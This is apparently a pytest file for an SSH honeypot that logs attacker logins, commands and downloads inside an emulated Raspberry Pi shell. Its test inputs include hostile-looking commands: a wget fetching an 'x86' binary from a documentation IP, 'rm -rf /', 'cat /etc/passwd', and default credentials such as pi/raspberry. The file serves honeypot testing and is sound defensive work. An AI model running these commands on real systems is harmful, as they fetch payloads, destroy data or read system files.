"""Tests for the session controller lifecycle."""

import threading
import time

import pytest

from sshmon.events import (
    EVENT_AUTHENTICATION,
    EVENT_COMMAND,
    EVENT_CONNECTION,
    EVENT_DISCONNECT,
    EVENT_DOWNLOAD,
)
from sshmon.registry import SessionRegistry
from sshmon.session import SessionStatus, is_loopback
from sshmon.threat_intel import ThreatIntel


def start(controller, channel, username="root", password="toor"):
    """Drive a controller to an interactive shell on ``channel``."""
    assert controller.open()
    controller.on_auth("password", username, password)
    controller.on_authenticated(username)
    controller.attach(channel)
    return controller


def wait_until(predicate, timeout=2.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.01)
    return predicate()


class TestAdmission:
    """Tests for the peer filter and registry cap."""

    @pytest.mark.parametrize("ip", ["127.0.0.1", "127.8.8.8", "::1", "::ffff:127.0.0.1"])
    def test_is_loopback(self, ip):
        assert is_loopback(ip)

    @pytest.mark.parametrize("ip", ["8.8.8.8", "192.168.1.10", "not-an-ip"])
    def test_not_loopback(self, ip):
        assert not is_loopback(ip)

    def test_loopback_peer_filtered(self, make_controller, registry, events):
        controller = make_controller(peer_ip="127.0.0.1")
        assert controller.open() is False
        assert controller.session.status == SessionStatus.CLOSED
        assert len(registry) == 0
        assert events.events == []

    def test_loopback_admitted_when_enabled(self, make_controller, registry):
        controller = make_controller(peer_ip="127.0.0.1", log_localhost=True)
        assert controller.open() is True
        assert len(registry) == 1

    def test_capacity_rejection(self, make_controller, events):
        registry = SessionRegistry(max_sessions=1)
        assert make_controller(registry=registry).open()
        rejected = make_controller(registry=registry, peer_ip="198.51.100.5")
        assert rejected.open() is False
        assert rejected.session.status == SessionStatus.CLOSED
        assert len(registry) == 1
        assert events.kinds() == [EVENT_CONNECTION]

    def test_admission_emits_connection_event(self, make_controller, events):
        controller = make_controller()
        controller.open()
        assert controller.session.status == SessionStatus.AUTHENTICATING
        (fields,) = events.of_kind(EVENT_CONNECTION)
        assert fields["session_id"] == controller.session.id
        assert fields["peer_ip"] == "203.0.113.9"
        assert fields["peer_port"] == 40000


class TestAuthentication:
    """Every password is accepted; public keys are refused."""

    def test_password_accepted_and_logged(self, make_controller, events):
        controller = make_controller()
        controller.open()
        assert controller.on_auth("password", "root", "123456") is True
        (fields,) = events.of_kind(EVENT_AUTHENTICATION)
        assert fields["username"] == "root"
        assert fields["password"] == "123456"
        assert fields["accepted"] is True
        assert controller.session.username == "root"

    def test_publickey_refused(self, make_controller, events):
        controller = make_controller()
        controller.open()
        assert controller.on_auth("publickey", "root") is False
        assert events.of_kind(EVENT_AUTHENTICATION)[0]["accepted"] is False

    def test_authenticated_session_is_interactive(self, make_controller):
        controller = make_controller()
        controller.open()
        controller.on_auth("password", "pi", "raspberry")
        controller.on_authenticated("pi")
        assert controller.session.status == SessionStatus.INTERACTIVE
        assert controller.filesystem.home == "/home/pi"
        assert controller.shell.prompt() == "pi@raspberrypi:~$ "


class TestInteractiveSession:
    """End-to-end keystroke handling through a fake channel."""

    def test_banner_and_prompt_on_attach(self, make_controller, channel):
        start(make_controller(), channel)
        assert "Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY" in channel.text
        assert channel.text.endswith("root@raspberrypi:~# ")
        assert "\r\n" in channel.text

    def test_whoami_uname_exit(self, make_controller, channel, events, pi, registry):
        controller = start(make_controller(), channel)
        assert controller.feed(b"whoami\r") is True
        assert channel.text.endswith("whoami\r\nroot\r\nroot@raspberrypi:~# ")

        controller.feed(b"uname -a\r")
        assert channel.text.endswith(f"{pi.kernel}\r\nroot@raspberrypi:~# ")

        assert controller.feed(b"exit\r") is False
        assert channel.text.endswith("exit\r\nlogout\r\n")
        assert channel.closed
        assert controller.session.status == SessionStatus.CLOSED
        assert len(registry) == 0

        (disconnect,) = events.of_kind(EVENT_DISCONNECT)
        assert disconnect["reason"] == "exit"
        assert disconnect["command_count"] == 3
        assert events.kinds()[-1] == EVENT_DISCONNECT

    def test_command_events(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        controller.feed(b"hostname\r")
        controller.feed(b"zzz\r")
        commands = events.of_kind(EVENT_COMMAND)
        assert [c["input"] for c in commands] == ["hostname", "zzz"]
        assert commands[0]["output"] == "raspberrypi\n"
        assert commands[1]["output"] == "bash: zzz: command not found\n"

    def test_empty_line_reprints_prompt(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        controller.feed(b"\r")
        assert channel.text.endswith("root@raspberrypi:~# \r\nroot@raspberrypi:~# ")
        assert events.of_kind(EVENT_COMMAND) == []
        assert controller.session.command_count == 0

    def test_split_chunks(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        controller.feed(b"who")
        controller.feed(b"ami")
        controller.feed(b"\r\n")
        assert [c["input"] for c in events.of_kind(EVENT_COMMAND)] == ["whoami"]

    def test_ctrl_c_and_ctrl_d(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        controller.feed(b"rm -rf /\x03")
        assert channel.text.endswith("^C\r\nroot@raspberrypi:~# ")
        assert events.of_kind(EVENT_COMMAND) == []
        assert controller.feed(b"\x04") is False
        assert channel.text.endswith("logout\r\n")
        assert events.of_kind(EVENT_DISCONNECT)[0]["reason"] == "logout"

    def test_download_event(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        controller.feed(b"wget http://198.51.100.200/x86\r")
        (download,) = events.of_kind(EVENT_DOWNLOAD)
        assert download["url"] == "http://198.51.100.200/x86"
        assert download["tool"] == "wget"

    def test_state_persists_between_commands(self, make_controller, channel):
        controller = start(make_controller(), channel)
        controller.feed(b"cd /tmp\r")
        controller.feed(b"echo hi > note\r")
        controller.feed(b"cat /tmp/note\r")
        assert channel.text.endswith("hi\r\nroot@raspberrypi:/tmp# ")

    def test_filesystem_changes_do_not_leak(self, make_controller, new_channel):
        first = start(make_controller(), new_channel())
        second = start(make_controller(peer_ip="198.51.100.2"), new_channel())
        first.feed(b"touch /tmp/marker\r")
        assert second.filesystem.exists("/tmp/marker") is False


class TestFaultIsolation:
    """A failing handler must not end the session."""

    def test_handler_exception_becomes_io_error(self, make_controller, channel, events):
        controller = start(make_controller(), channel)

        def explode(line):
            raise RuntimeError("boom")

        real_execute = controller.shell.execute
        controller.shell.execute = explode
        assert controller.feed(b"cat /etc/passwd\r") is True
        assert "bash: cat: Input/output error\r\n" in channel.text
        assert "boom" not in channel.text
        assert channel.text.endswith("root@raspberrypi:~# ")

        controller.shell.execute = real_execute
        controller.feed(b"whoami\r")
        assert channel.text.endswith("root\r\nroot@raspberrypi:~# ")
        assert len(events.of_kind(EVENT_COMMAND)) == 2

    def test_send_failure_closes_session(self, make_controller, channel, events):
        controller = start(make_controller(), channel)
        channel.closed = True
        controller.feed(b"id\r")
        assert controller.closed
        assert len(events.of_kind(EVENT_DISCONNECT)) == 1


class TestTeardown:
    """Closing is idempotent and cancels pending work."""

    def test_close_twice_emits_one_disconnect(self, make_controller, channel, events, registry):
        controller = start(make_controller(), channel)
        assert controller.close("disconnect") is True
        assert controller.close("disconnect") is False
        assert len(events.of_kind(EVENT_DISCONNECT)) == 1
        assert len(registry) == 0

    def test_close_discards_overlay(self, make_controller, channel):
        controller = start(make_controller(), channel)
        controller.feed(b"touch /tmp/evidence\r")
        controller.close()
        assert not controller.filesystem.exists("/tmp/evidence")

    def test_close_runs_callbacks(self, make_controller, channel):
        controller = start(make_controller(), channel)
        called = []
        controller.add_close_callback(lambda: called.append(True))
        controller.close()
        controller.close()
        assert called == [True]

    def test_idle_timeout_closes_once(self, make_controller, channel, events):
        controller = start(make_controller(idle_timeout=0.2), channel)
        assert wait_until(lambda: controller.closed)
        assert wait_until(lambda: controller.session.status == SessionStatus.CLOSED)
        disconnects = events.of_kind(EVENT_DISCONNECT)
        assert len(disconnects) == 1
        assert disconnects[0]["reason"] == "idle-timeout"
        assert channel.closed

    def test_activity_postpones_idle_timeout(self, make_controller, channel):
        controller = start(make_controller(idle_timeout=0.4), channel)
        for _ in range(4):
            time.sleep(0.15)
            controller.feed(b"a")
        assert not controller.closed
        assert wait_until(lambda: controller.closed, timeout=2.0)

    def test_close_cancels_command_delay(self, make_controller, channel):
        controller = start(make_controller(command_delay=10.0), channel)
        timer = threading.Timer(0.1, controller.close)
        timer.start()
        began = time.monotonic()
        controller.feed(b"whoami\r")
        timer.join()
        assert time.monotonic() - began < 5.0
        assert controller.closed
        assert channel.text.endswith("whoami\r\n")

    def test_nothing_runs_after_close_during_delay(self, make_controller, channel, events):
        controller = start(make_controller(command_delay=10.0), channel)
        timer = threading.Timer(0.1, controller.close)
        timer.start()
        controller.feed(b"wget http://198.51.100.3/b\r")
        timer.join()
        assert controller.closed
        assert events.of_kind(EVENT_DOWNLOAD) == []
        assert events.of_kind(EVENT_COMMAND) == []
        assert events.kinds()[-1] == EVENT_DISCONNECT


class TestExec:
    """One-shot ``ssh host command`` requests."""

    def test_run_exec(self, make_controller, channel, events):
        controller = make_controller()
        controller.open()
        controller.on_auth("password", "root", "x")
        controller.on_authenticated("root")
        assert controller.run_exec("uname -m", channel) == 0
        assert channel.text == "armv7l\n"
        assert channel.exit_status == 0
        assert channel.closed
        assert events.of_kind(EVENT_DISCONNECT)[0]["reason"] == "exec-complete"

    def test_run_exec_failure_status(self, make_controller, channel):
        controller = make_controller()
        controller.open()
        controller.on_authenticated("root")

        def explode(line):
            raise ValueError("bad")

        controller.shell.execute = explode
        assert controller.run_exec("ls", channel) == 1
        assert channel.exit_status == 1
        assert channel.text == "bash: ls: Input/output error\n"


class TestEnrichment:
    """Threat intel results are attached to later events."""

    def test_intel_attached(self, make_controller, channel, events):
        def fetch(ip, timeout):
            return {"status": "success", "countryCode": "US", "city": "Ashburn", "isp": "Example", "as": "AS64500"}

        intel = ThreatIntel(enabled=True, fetch=fetch)
        controller = start(make_controller(peer_ip="8.8.8.8", threat_intel=intel), channel)
        assert controller.session.intel["country"] == "US"
        controller.feed(b"id\r")
        assert events.of_kind(EVENT_COMMAND)[0]["intel"]["city"] == "Ashburn"
        assert "intel" not in events.of_kind(EVENT_CONNECTION)[0]

    def test_private_peer_not_enriched(self, make_controller, channel, events):
        calls = []
        intel = ThreatIntel(enabled=True, fetch=lambda ip, t: calls.append(ip) or {})
        start(make_controller(peer_ip="192.168.1.20", threat_intel=intel), channel)
        assert calls == []
